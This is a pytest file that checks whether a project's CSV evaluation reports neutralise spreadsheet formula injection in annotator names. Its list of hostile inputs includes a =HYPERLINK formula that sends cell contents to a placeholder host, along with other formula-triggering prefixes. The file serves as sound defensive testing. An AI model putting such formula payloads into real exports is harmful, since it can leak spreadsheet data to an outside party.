"""No CSV the project writes carries a live spreadsheet formula (annotator names are user text)."""

from __future__ import annotations

import csv
import io

import pytest

from masketeer_gui.csv_cells import FORMULA_STARTS, safe_cell
from masketeer_gui.evaluation.summary import summarize, to_csv
from tests.evaluation.helpers import span, tn, tp
from tests.evaluation.test_report import SAMPLE, SETTINGS

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Klick")', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"]


@pytest.mark.parametrize("name", HOSTILE)
def test_formula_like_annotator_names_are_neutralised_in_the_csv_report(name: str) -> None:
    spans = {"n1": [span(4, 9, "HCP")], "n2": []}
    decisions = [tp("n1", 4, 9, "HCP", "HCP", who=name), tn("n2", who=name), tp("n1", 4, 9, "HCP", "HCP", who="ok")]
    summary = summarize("Report", SAMPLE, SETTINGS, spans, decisions)
    rows = list(csv.reader(io.StringIO(to_csv(summary), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + name in cells or name.strip() in cells  # kept, readable, as text (or trimmed)
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only plain numbers such as -0.5 may start with a sign


def test_safe_cell_leaves_numbers_and_plain_text_alone() -> None:
    assert safe_cell(-0.5) == -0.5 and safe_cell(3) == 3
    assert safe_cell("Hofer") == "Hofer" and safe_cell("=1") == "'=1"
